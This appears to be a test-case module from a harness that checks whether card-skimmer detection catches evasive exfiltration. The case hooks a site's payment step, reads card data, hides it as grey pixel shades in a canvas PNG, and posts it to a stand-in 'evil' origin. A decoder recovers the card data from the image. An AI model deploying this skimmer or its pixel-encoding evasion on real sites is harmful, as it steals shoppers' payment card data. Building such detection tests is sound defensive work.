import { inflateSync } from 'node:zlib';
import { holds, js, skimmer } from '../behaviour.ts';
import { firstRow } from '../ciphers.ts';
import { bodies } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'canvas-png',
  why: 'Digits become shades of grey in a picture that is posted as a PNG: to a search of bytes it is noise.',
  covers: ['cipher: any', 'disguise: file ending', 'hard: unusual channel'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var text = card(), canvas = document.createElement('canvas'), g = canvas.getContext('2d');
    canvas.width = text.length; canvas.height = 4;
    for (var i = 0; i < text.length; i++) { var v = text.charCodeAt(i) + 100; g.fillStyle = 'rgb(' + v + ',' + v + ',' + v + ')'; g.fillRect(i, 0, 1, 4); }
    fetch('${site.origins.evil}/avatar.png', { method: 'POST', mode: 'no-cors', keepalive: true, body: canvas.toDataURL('image/png') });`),
    ),
  proof: holds((arrived) =>
    bodies(arrived).map((body) =>
      Buffer.from(
        firstRow(Buffer.from(body.split(',')[1] ?? '', 'base64'), inflateSync).map((v) => v - 100),
      ).toString('latin1'),
    ),
  ),
});
